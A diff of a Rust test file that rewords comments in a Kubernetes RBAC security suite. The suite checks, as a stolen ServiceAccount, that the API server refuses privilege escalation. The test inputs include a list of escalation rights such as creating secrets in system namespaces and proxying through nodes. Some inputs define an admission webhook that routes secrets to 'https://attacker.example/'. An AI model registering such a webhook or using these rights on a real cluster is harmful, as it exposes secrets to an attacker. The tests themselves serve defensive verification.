@@ -1,4 +1,5 @@
-//! What each account is worth to a thief, right by right: asked of the API server as that account, and tried where it matters most.
+//! The permissions of each ServiceAccount, one by one: queried from the API server, and tried where
+//! it matters most.
 
 use std::time::Duration;
 
@@ -8,7 +9,8 @@ use serde_json::{Value, json};
 
 use crate::stolen::{AGENT, OPERATOR, SYSTEM, Thief, WEBHOOK, install};
 
-/// A verb, a resource (with a name, or a subresource after a second slash), the namespace if there is one.
+/// A verb, a resource (with a name, or a subresource after a double slash), and the namespace, if
+/// any.
 type Right = (&'static str, &'static str, &'static str);
 
 const EVERYWHERE: &str = "";
@@ -110,7 +112,7 @@ const MAY_NOT: &[((&str, &str), &[Right])] = &[
     ),
 ];
 
-/// What leads to every account of a namespace, or to all of them.
+/// Permissions that would give access to every ServiceAccount of a namespace or of the cluster.
 const NOBODY_MAY: &[Right] = &[
     ("create", "secrets", SYSTEM),
     ("create", "secrets", PROXIES),
@@ -133,7 +135,7 @@ const NOBODY_MAY: &[Right] = &[
     ("create", "nodes//proxy", EVERYWHERE),
 ];
 
-/// Whether the API server says yes.
+/// Whether the API server allows it.
 async fn may(thief: &Thief<'_>, (verb, resource, namespace): Right) -> bool {
     let (resource, part) = resource.split_once("//").unwrap_or((resource, ""));
     let part = format!("--subresource={part}");
@@ -221,7 +223,8 @@ async fn the_operator_gives_nobody_more_than_it_has(thief: &Thief<'_>) {
     thief.is_refused(&apply, &role, "attempting to grant RBAC permissions not currently held").await;
 }
 
-/// RBAC knows no fields, so an admission policy looks at them. The API server takes a moment to know it.
+/// RBAC cannot restrict fields, so an admission policy does. The API server takes a moment to load
+/// it.
 async fn the_webhook_changes_its_ca_bundle_and_no_other_field(thief: &Thief<'_>) {
     let apply =
         |manager| ["apply", "--server-side", "--force-conflicts", "--dry-run=server", manager, "-f", "-"];
@@ -255,7 +258,7 @@ async fn the_webhook_changes_its_ca_bundle_and_no_other_field(thief: &Thief<'_>)
         json!({"matchPolicy": "Exact"}),
         json!({"sideEffects": "NoneOnDryRun"}),
         json!({"admissionReviewVersions": ["v1", "v1beta1"]}),
-        // One more.
+        // An additional webhook.
         json!({
             "name": "more.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None", "rules": secrets,
             "clientConfig": {"url": "https://attacker.example/"},
@@ -263,7 +266,7 @@ async fn the_webhook_changes_its_ca_bundle_and_no_other_field(thief: &Thief<'_>)
     ] {
         thief.is_refused(&mine, &of_webhook(webhook), webhook_refused).await;
     }
-    // In the name of the installation, whose fields could be taken away so.
+    // As the installation's field manager, which would allow removing its fields.
     let other = json!({
         "admissionReviewVersions": ["v1"], "sideEffects": "None", "rules": secrets,
         "clientConfig": {"url": "https://attacker.example/"},
@@ -283,7 +286,7 @@ async fn the_webhook_changes_its_ca_bundle_and_no_other_field(thief: &Thief<'_>)
     thief.succeeds(&mine, &of_webhook(bundle)).await;
 }
 
-/// What the API server takes for a bundle.
+/// A certificate that the API server accepts as a CA bundle.
 const CERTIFICATE: &str = include_str!("certificate.pem");
 
 fn merge(into: &mut Value, fields: Value) {
